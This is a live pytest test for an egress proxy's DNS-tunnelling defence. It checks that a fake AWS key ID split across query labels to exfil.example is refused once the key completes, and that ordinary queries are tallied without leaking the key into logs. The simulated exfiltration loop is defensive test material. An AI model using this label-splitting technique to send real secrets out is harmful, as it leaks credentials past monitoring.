"""Live (open30, root): attack26's `tun` listener with a real mitmdump and the bundle. A key spread one label per
query over five queries to one domain (DNS tunnelling) reached the sink whole before (each label alone is no
key); now the query that completes it is refused and recorded, and the queries that go on are tallied in the index
(one `dns_query` record per client and domain a window, the rest counted and written at the stop). Checked: what
the sink (the upstream) received, and every byte the proxy wrote (log, index, .mitm)."""

from __future__ import annotations

import json
import socket
import time
from pathlib import Path

import pytest

from tests import fakes
from tests.live import harness
from tests.live.tun import dns_query as query
from tests.live.tun import received, start_tun_proxy

pytestmark = [pytest.mark.live, pytest.mark.root]

AKID = fakes.aws_key_id(3031)
DEVICE = "egtun30"
NETWORK = "198.18.230.0/24"
ORDINARY = ["api.openai.com", "files.openai.com", "api.anthropic.com", "www.bbc.co.uk", "pypi.org"]


def test_a_tunnelled_key_is_refused_and_ordinary_queries_are_tallied(tmp_path, upstream):
    sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sink.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    sink.bind(("127.0.0.1", 0))
    record = tmp_path / "rec"
    proxy = start_tun_proxy(tmp_path, upstream, DEVICE, NETWORK, sink.getsockname()[1], record)
    try:
        agent = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        pieces = [AKID.lower()[i:i + 4] for i in range(0, 20, 4)]
        for i, piece in enumerate(pieces):
            agent.sendto(query(f"{piece}.t.exfil.example", 0x3000 + i), ("198.18.230.6", 53))
            time.sleep(0.05)  # in order, as a tunnel sends them (not a timing assertion)
        for i in range(1000):
            agent.sendto(query(ORDINARY[i % len(ORDINARY)], i), ("198.18.230.6", 53))
            if i % 10 == 9:
                time.sleep(0.02)  # the tun device's queue (not a timing assertion: the counts are compared)
        got = received(sink)
        assert not [d for d in got if pieces[-1].encode() in d], "the completing query reached the sink"
        assert all(any(p.encode() in d for d in got) for p in pieces[:-1])  # the pieces before it went on
        ordinary_sent = sum(1 for d in got if b"\x06openai" in d or b"anthropic" in d or b"\x03bbc" in d
                            or b"\x04pypi" in d)
        assert ordinary_sent > 500
        time.sleep(0.5)
        assert proxy.stop() == 0
        written = harness.written(record)
        for spelling in (AKID, AKID.lower()):
            assert spelling.encode() not in written and spelling not in proxy.log
        lines = [line for p in Path(record).rglob("*.jsonl") for line in p.read_text().splitlines()]
        events = [json.loads(line) for line in lines]
        refused = [e for e in events if e.get("event") == "dns_refused"]
        assert len(refused) == 1 and "recent queries" in refused[0]["reason"]
        assert refused[0]["questions"] == ["[labels withheld].exfil.example"]
        tallied = [e for e in events if e.get("event") == "dns_query"]
        counts: dict[str, int] = {}
        for e in tallied:
            counts[e["domain"]] = counts.get(e["domain"], 0) + e["count"]
        assert counts.pop("exfil.example") == 4
        assert sum(counts.values()) == ordinary_sent  # every query that went on is counted
        assert set(counts) == {"openai.com", "anthropic.com", "bbc.co.uk", "pypi.org"}
        tally_bytes = sum(len(line) for line, e in zip(lines, events, strict=True) if e.get("event") == "dns_query")
        print(f"\nindex: {len(tallied)} dns_query records, {tally_bytes} bytes for {ordinary_sent + 4} queries")
        assert len(tallied) <= 2 * (len(counts) + 1)  # per domain: the window's first and the stop's count
    finally:
        proxy.stop()
        sink.close()
